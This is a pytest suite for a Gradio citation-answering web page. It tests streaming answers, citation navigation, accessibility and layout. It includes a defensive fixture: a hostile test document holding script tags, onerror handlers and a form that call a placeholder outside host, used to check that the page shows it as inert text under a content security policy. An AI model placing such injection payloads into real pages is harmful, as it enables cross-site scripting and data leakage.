from __future__ import annotations

import shutil
import socket
import threading
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from rag.errors import SettingsError
from rag.types import Answer, ClaimReady, Document, Event, Retrieved, Turn
from ui.app import opened_html, start
from ui.exchange import STOPPED, Conversation, Exchange, exchanged, stopped, turns
from ui.render import answer_text, place_key

# gradio 6.31 counts its queue with what pandas has since deprecated
pytestmark = [
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting' is deprecated"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]

BAIL = "How much was Durov's bail?"
POLICE = "How often must he report to the police?"
WORTH = "What is Durov's net worth?"
FERRY = "What is the fee of the Zorbeck ferry?"
FERRY_FEE = "The fee of the Zorbeck ferry is 7 euros"
HOSTILE = (
    "The Zorbeck ferry <b>timetable</b>\n\n"
    "<script>window.hostile = 1; fetch('http://192.0.2.1/script')</script>\n"
    '<img src="http://192.0.2.1/img.png" onerror="window.hostile = 2">\n'
    "![picture](http://192.0.2.1/markdown.png) and {{value}} and ${window.hostile = 3}\n"
    '<form action="http://192.0.2.1/form"><input name="q"></form>\n\n'
    f'{FERRY_FEE} <img src=x onerror="window.hostile = 4"> for each passenger.\n'
)
PATIENCE_MS = 10_000
FLAGS = (
    "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync"
)


@dataclass
class Paced:
    """A real engine that can be held after an event, to look at an answer while it is made."""

    engine: Any
    hold: type | None = None
    go_on: threading.Event = field(default_factory=threading.Event)

    def stream(self, question: str, history: Sequence[Turn] = ()) -> Iterator[Event]:
        for event in self.engine.stream(question, history):
            yield event
            if self.hold is not None and isinstance(event, self.hold):
                self.go_on.wait(PATIENCE_MS / 1000)

    def document(self, doc_id: str) -> Document:
        return self.engine.document(doc_id)

    def documents(self) -> tuple[Document, ...]:
        return self.engine.documents()


# --- without a browser


def test_a_question_is_worked_on_then_answered_as_the_engine_answers(engine: Any):
    first, *_, last = exchanged(engine, BAIL)
    assert first.working
    assert first.answer is None
    asked = engine.ask(BAIL)
    assert last == Exchange(BAIL, last.answer)
    assert last.answer is not None
    assert (last.answer.claims, last.answer.citations) == (asked.claims, asked.citations)


def test_every_sentence_is_shown_before_the_whole_answer_is_there(engine: Any):
    shown = list(exchanged(engine, BAIL))
    count = len(engine.ask(BAIL).claims)
    growing = [len(step.answer.claims) for step in shown if step.answer and step.working]
    assert growing == list(range(1, count + 1))


def test_a_question_that_cannot_be_asked_is_one_line_of_error(engine: Any):
    last = list(exchanged(engine, "bail " * 1000))[-1]
    assert last.answer is None
    assert not last.working
    assert "characters" in last.error
    assert "\n" not in last.error


def test_a_bug_ends_the_question_and_not_the_page(engine: Any, caplog: pytest.LogCaptureFixture):
    last = list(exchanged(engine, BAIL, (Exchange("Before?", answer=42),)))[-1]  # type: ignore[arg-type]
    assert last.error == "This question failed (AttributeError: 'int' object has no attribute 'text')."
    assert "Traceback" in caplog.text


def test_the_history_is_the_answered_questions_in_order(engine: Any):
    answer = engine.ask(BAIL)
    conversation: Conversation = (Exchange("Broken?", error="No."), Exchange(BAIL, answer))
    assert turns(conversation) == (Turn("user", BAIL), Turn("assistant", answer.text))


def test_a_stop_keeps_what_was_checked_and_changes_no_finished_answer(engine: Any):
    answer = engine.ask(BAIL)
    finished, cut = Exchange(BAIL, answer), Exchange(POLICE, answer, working="Reading …")
    assert stopped((finished, cut)) == (finished, Exchange(POLICE, answer, error=STOPPED))
    assert stopped((finished,)) == (finished,)
    assert stopped(()) == ()


@pytest.mark.parametrize(
    "place",
    [
        {"turn": 0, "marker": 99},
        {"turn": 7, "marker": 1},
        {"turn": -1, "marker": 1},
        {"turn": "0", "marker": 1},
        {"turn": 0, "marker": [1]},
        {"turn": 0},
    ],
)
def test_a_place_that_is_not_in_the_conversation_opens_no_document(engine: Any, place: dict[str, Any]):
    markup = opened_html(engine, (Exchange(BAIL, engine.ask(BAIL)),), place)
    assert "no longer held here" in markup
    assert "<mark" not in markup


def test_a_document_that_is_gone_is_one_line_of_error(engine: Any):
    assert "cw-error" in opened_html(engine, (), {"doc": "gone.txt"})


# --- in a browser

browser = pytest.mark.browser


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture(scope="module")
def paced(seeds: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Paced]:
    from rag import open_engine

    corpus = tmp_path_factory.mktemp("page") / "corpus"
    shutil.copytree(seeds, corpus)
    (corpus / "ferry.txt").write_text(HOSTILE, "utf-8")
    with open_engine(path=corpus, store=tmp_path_factory.mktemp("page-store")) as engine:
        yield Paced(engine)


@pytest.fixture(scope="module")
def address(paced: Paced) -> Iterator[str]:
    page = start(paced, port=free_port(), examples=(BAIL, WORTH))
    yield page.local_url
    page.close(verbose=False)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=FLAGS.split())
        yield running
        running.close()


@dataclass
class Visitor:
    """Somebody at the page, and what their browser asked for and stumbled over."""

    tab: Any
    requests: list[str]
    errors: list[str]

    def ask(self, question: str) -> None:
        before = self.tab.locator(".cw-exchange").count()
        self.tab.fill("#cw-question textarea", question)
        self.tab.keyboard.press("Enter")
        self.tab.locator(".cw-exchange").nth(before).locator(".cw-foot, .cw-error").wait_for()

    def chip(self, marker: int, turn: int = 0) -> Any:
        chips = self.tab.locator(".cw-exchange").nth(turn).locator(".cw-claim .cw-chip")
        return chips.filter(has_text=str(marker)).first

    def opened(self, **place: int | str) -> Any:
        shown = self.tab.locator(".cw-document").and_(
            self.tab.locator(f"[data-shown='{place_key(**place)}']")
        )
        shown.wait_for()
        return shown

    def focused(self) -> str:
        return self.tab.locator(".cw-focus").evaluate("mark => mark.textContent")


@pytest.fixture
def visit(chromium: Any, address: str, paced: Paced) -> Iterator[Any]:
    open_tabs: list[Visitor] = []

    def arrive(query: str = "", **options: Any) -> Visitor:
        tab = chromium.new_page(**({"viewport": {"width": 1280, "height": 800}} | options))
        tab.set_default_timeout(PATIENCE_MS)
        visitor = Visitor(tab, [], [])
        tab.on("request", lambda request: visitor.requests.append(request.url))
        tab.on("pageerror", lambda error: visitor.errors.append(str(error)))
        tab.on("dialog", lambda dialog: visitor.errors.append(dialog.message))
        open_tabs.append(visitor)
        tab.goto(address + query)
        tab.locator(".cw-documents").wait_for()
        return visitor

    yield arrive
    paced.hold = None
    paced.go_on.set()
    for visitor in open_tabs:
        visitor.tab.close()
        outside = [url for url in visitor.requests if not url.startswith((address, "data:", "blob:"))]
        assert not outside
        assert not visitor.errors
    paced.go_on.clear()


@pytest.fixture
def visitor(visit: Any) -> Visitor:
    return visit()


def two_sources(answer: Answer) -> tuple[int, int]:
    """The markers of two citations of the sentences, in different documents."""
    cited = {marker for claim in answer.claims for marker in claim.citations}
    first, *rest = (citation for citation in answer.citations if citation.marker in cited)
    return first.marker, next(other.marker for other in rest if other.doc_id != first.doc_id)


@browser
def test_the_bail_is_answered_with_its_source_beside_it(visitor: Visitor, paced: Paced):
    visitor.tab.click(f"text={BAIL}")
    visitor.tab.locator(".cw-sources").wait_for()
    answer = paced.engine.ask(BAIL)
    assert "5 million" in visitor.tab.locator(".cw-claim").first.inner_text()
    assert visitor.tab.locator(".cw-sources li").count() == len(answer.citations)
    first = answer.citations[0]
    visitor.opened(turn=0, marker=first.marker)
    text = paced.document(first.doc_id).text
    assert visitor.focused() == first.quote == text[first.start : first.end]
    assert visitor.tab.locator(".cw-text").evaluate("text => text.textContent") == text


@browser
def test_every_citation_opens_its_document_with_exactly_its_words_in_view(visitor: Visitor, paced: Paced):
    visitor.ask(BAIL)
    for citation in paced.engine.ask(BAIL).citations:
        visitor.chip(citation.marker).click()
        visitor.opened(turn=0, marker=citation.marker)
        text = paced.document(citation.doc_id).text
        assert visitor.focused() == citation.quote == text[citation.start : citation.end]
        assert visitor.tab.locator(".cw-focus").get_attribute("id") == (
            f"cw-mark-{citation.start}-{citation.end}"
        )
        assert visitor.tab.evaluate(IN_VIEW)


IN_VIEW = """() => {
    const mark = document.querySelector('.cw-focus').getBoundingClientRect();
    const box = document.querySelector('.cw-panel .cw-scroll').getBoundingClientRect();
    return mark.top >= box.top && mark.top < box.bottom && mark.top < innerHeight && mark.bottom > 0;
}"""


@browser
def test_a_citation_of_an_older_answer_still_opens_its_source(visitor: Visitor, paced: Paced):
    visitor.ask(BAIL)
    visitor.ask(POLICE)
    visitor.opened(turn=1, marker=1)
    answer = paced.engine.ask(BAIL)
    _, second = two_sources(answer)
    visitor.chip(second, turn=0).click()
    assert (
        visitor.opened(turn=0, marker=second)
        .locator(".cw-meta")
        .inner_text()
        .endswith(answer.citations[second - 1].doc_id)
    )
    assert visitor.chip(second, turn=0).get_attribute("aria-current") == "true"


@browser
def test_a_citation_shows_its_quote_on_hover_and_on_focus(visitor: Visitor, paced: Paced):
    visitor.ask(BAIL)
    chip = visitor.chip(1)
    card = visitor.tab.locator(f"#{chip.get_attribute('aria-describedby')}")
    assert not card.is_visible()
    chip.hover()
    card.wait_for(state="visible")
    assert card.locator(".cw-quote").text_content() == paced.engine.ask(BAIL).citations[0].quote
    visitor.tab.mouse.move(2, 2)
    card.wait_for(state="hidden")
    chip.focus()
    card.wait_for(state="visible")
    visitor.tab.keyboard.press("Escape")
    card.wait_for(state="hidden")


@browser
def test_with_the_keyboard_alone_a_citation_is_reached_and_opened(visitor: Visitor, paced: Paced):
    visitor.ask(BAIL)
    _, second = two_sources(paced.engine.ask(BAIL))
    for _ in range(60):
        visitor.tab.keyboard.press("Shift+Tab")
        if visitor.tab.evaluate(FOCUSED) == f"Citation {second}":
            break
    assert visitor.tab.evaluate(FOCUSED) == f"Citation {second}"
    visitor.tab.keyboard.press("Enter")
    visitor.opened(turn=0, marker=second)
    for _ in range(60):
        visitor.tab.keyboard.press("Tab")
        if visitor.tab.evaluate("document.activeElement.dataset.back") is not None:
            break
    visitor.tab.keyboard.press("Enter")
    assert visitor.tab.evaluate(FOCUSED) == f"Citation {second}"


FOCUSED = "document.activeElement.getAttribute('aria-label')"


@browser
def test_a_refused_question_shows_the_nearest_passages_as_not_evidence(visitor: Visitor, paced: Paced):
    visitor.ask(WORTH)
    answer = paced.engine.ask(WORTH)
    assert answer.status == "refused"
    assert visitor.tab.locator(".cw-reason").inner_text() == answer.reason
    assert "not evidence" in visitor.tab.locator(".cw-nearest h3").inner_text()
    assert visitor.tab.locator(".cw-nearest li").count() == len(answer.nearest)
    assert visitor.tab.locator(".cw-chip, mark").count() == 0
    visitor.tab.locator(".cw-nearest button").first.click()
    assert "not evidence" in visitor.opened(turn=0, passage=0).locator(".cw-near-note").inner_text()
    assert visitor.focused() == answer.nearest[0].quote


@browser
def test_a_hostile_document_is_shown_as_text(visitor: Visitor, paced: Paced):
    visitor.ask(FERRY)
    citation = next(one for one in paced.engine.ask(FERRY).citations if FERRY_FEE in one.quote)
    visitor.chip(citation.marker).click()
    panel = visitor.opened(turn=0, marker=citation.marker)
    assert panel.locator(".cw-text").evaluate("text => text.textContent") == HOSTILE
    assert visitor.focused() == citation.quote
    assert panel.locator("script, img, form, a, b, input").count() == 0
    assert visitor.tab.locator(".cw-log").locator("script, img, form, a, b, input").count() == 0
    assert visitor.tab.evaluate("window.hostile") is None


@browser
def test_the_policy_stops_what_would_reach_out(visitor: Visitor, address: str):
    response = visitor.tab.request.get(address)
    policy = response.headers["content-security-policy"]
    assert "default-src 'self'" in policy
    assert "form-action 'none'" in policy
    blocked = visitor.tab.evaluate(
        """() => new Promise(resolve => {
            addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
            new Image().src = 'http://127.0.0.2:9/beacon.png';
        })"""
    )
    assert blocked == "img-src"
    visitor.requests[:] = [url for url in visitor.requests if "beacon" not in url]


@browser
def test_an_empty_question_does_nothing(visitor: Visitor):
    visitor.tab.fill("#cw-question textarea", "   ")
    visitor.tab.click("#cw-ask")
    visitor.tab.wait_for_timeout(500)
    assert visitor.tab.locator(".cw-exchange").count() == 0
    assert visitor.tab.locator(".cw-welcome").is_visible()


@browser
def test_a_question_too_long_is_said_so_and_stays_in_the_box(visitor: Visitor):
    question = "Durov " * 500
    visitor.ask(question)
    assert "characters" in visitor.tab.locator(".cw-error").inner_text()
    assert visitor.tab.input_value("#cw-question textarea") == question.strip()
    visitor.ask(BAIL)
    assert visitor.tab.locator(".cw-exchange").count() == 2


@browser
def test_sentences_appear_while_the_answer_is_still_made(visitor: Visitor, paced: Paced):
    paced.hold = ClaimReady
    visitor.tab.click(f"text={BAIL}")
    visitor.tab.locator(".cw-claim").first.wait_for()
    assert visitor.tab.locator(".cw-working").is_visible()
    assert visitor.tab.locator(".cw-sources").count() == 0
    visitor.chip(1).click()
    visitor.opened(turn=0, marker=1)
    paced.hold = None
    paced.go_on.set()
    visitor.tab.locator(".cw-sources").wait_for()
    assert visitor.tab.locator(".cw-working").count() == 0


@browser
def test_a_stop_ends_the_answer_and_the_next_question_is_taken(visitor: Visitor, paced: Paced):
    paced.hold = Retrieved
    visitor.tab.click(f"text={BAIL}")
    visitor.tab.locator("text=Reading").wait_for()
    visitor.tab.click("#cw-stop")
    visitor.tab.locator(f"text={STOPPED}").wait_for()
    paced.hold = None
    paced.go_on.set()
    visitor.ask(POLICE)
    assert visitor.tab.locator(".cw-exchange").nth(1).locator(".cw-claim").count() > 0


@browser
def test_nobody_waits_for_the_answer_to_somebody_else(visit: Any, paced: Paced):
    paced.hold = Retrieved
    three = [visit() for _ in range(3)]
    for visitor in three:
        visitor.tab.click(f"text={BAIL}")
    for visitor in three:
        visitor.tab.locator("text=Reading").wait_for()


@browser
def test_a_new_conversation_starts_empty(visitor: Visitor):
    visitor.ask(BAIL)
    visitor.tab.click("#cw-new")
    visitor.tab.locator(".cw-welcome").wait_for()
    visitor.tab.locator(".cw-documents").wait_for()
    assert visitor.tab.locator(".cw-exchange").count() == 0


@browser
def test_the_list_names_every_document_and_opens_it_unmarked(visitor: Visitor, paced: Paced):
    documents = paced.documents()
    assert visitor.tab.locator(".cw-documents li").count() == len(documents)
    visitor.tab.locator(".cw-documents button").nth(2).click()
    panel = visitor.opened(doc=documents[2].doc_id)
    assert panel.locator(".cw-text").evaluate("text => text.textContent") == documents[2].text
    assert panel.locator("mark").count() == 0
    visitor.tab.click("text=All documents")
    visitor.tab.locator(".cw-documents").wait_for()


@browser
def test_an_answer_is_copied_with_its_sources(visitor: Visitor, paced: Paced, address: str):
    visitor.tab.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=address)
    visitor.ask(BAIL)
    visitor.tab.click("[data-copy]")
    visitor.tab.locator("text=Copied").wait_for()
    copied = visitor.tab.evaluate("navigator.clipboard.readText()")
    assert copied == f"{BAIL}\n\n{answer_text(paced.engine.ask(BAIL))}"


@browser
@pytest.mark.parametrize("width", [400, 1280])
def test_nothing_is_wider_than_the_window(visit: Any, width: int):
    visitor = visit(viewport={"width": width, "height": 700})
    wide = "document.documentElement.scrollWidth > innerWidth"
    assert not visitor.tab.evaluate(wide)
    for question in (BAIL, WORTH, FERRY, "x" * 300):
        visitor.ask(question)
        assert not visitor.tab.evaluate(wide)
    visitor.chip(1).click()
    visitor.opened(turn=0, marker=1)
    visitor.chip(1).hover()
    assert not visitor.tab.evaluate(wide)


@browser
def test_on_a_narrow_window_a_citation_leads_to_its_words_and_back(visit: Any, paced: Paced):
    visitor = visit(viewport={"width": 400, "height": 700})
    visitor.ask(BAIL)
    _, second = two_sources(paced.engine.ask(BAIL))
    visitor.chip(second).click()
    visitor.opened(turn=0, marker=second)
    visitor.tab.wait_for_function(IN_VIEW)
    visitor.tab.click("text=Back to the answer")
    assert visitor.tab.evaluate(FOCUSED) == f"Citation {second}"


@browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_all_text_is_easy_to_read_in_both_schemes(visit: Any, scheme: str):
    visitor = visit(color_scheme=scheme)
    assert visitor.tab.evaluate(FAINT) == []
    for question in (BAIL, WORTH, "x" * 3000):
        visitor.ask(question)
    visitor.chip(1).click()
    visitor.opened(turn=0, marker=1)
    visitor.tab.wait_for_timeout(300)
    assert visitor.tab.evaluate(FAINT) == []
    bright = visitor.tab.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/g)[0] > 128")
    assert bright == (scheme == "light")


# Texts with less contrast than WCAG 2.2 asks for (1.4.3, 4.5 to 1), of those that are shown.
FAINT = """() => {
    const parse = colour => colour.match(/[\\d.]+/g).map(Number);
    const channel = value => (value /= 255) <= .04045 ? value / 12.92 : ((value + .055) / 1.055) ** 2.4;
    const light = ([r, g, b]) => .2126 * channel(r) + .7152 * channel(g) + .0722 * channel(b);
    const ground = element => {
        for (let at = element; at; at = at.parentElement) {
            const colour = parse(getComputedStyle(at).backgroundColor);
            if (colour.length < 4 || colour[3] === 1) return colour;
        }
        return [255, 255, 255];
    };
    const ratio = element => {
        const pair = [parse(getComputedStyle(element).color), ground(element)].map(light);
        return (Math.max(...pair) + .05) / (Math.min(...pair) + .05);
    };
    const walker = document.createTreeWalker(document.querySelector('gradio-app'), NodeFilter.SHOW_TEXT);
    const faint = [];
    while (walker.nextNode()) {
        const element = walker.currentNode.parentElement;
        if (!walker.currentNode.data.trim() || ['SCRIPT', 'STYLE'].includes(element.tagName)) continue;
        if (element.checkVisibility({visibilityProperty: true}) && ratio(element) < 4.5)
            faint.push(`${element.className} ${ratio(element).toFixed(2)}: ${walker.currentNode.data}`);
    }
    return faint;
}"""


@browser
def test_a_port_that_is_taken_is_one_line_that_says_what_to_do(paced: Paced, address: str):
    port = int(address.rstrip("/").rpartition(":")[2])
    with pytest.raises(SettingsError, match=f"cannot be served at 127.0.0.1:{port}.*--port"):
        start(paced, port=port)
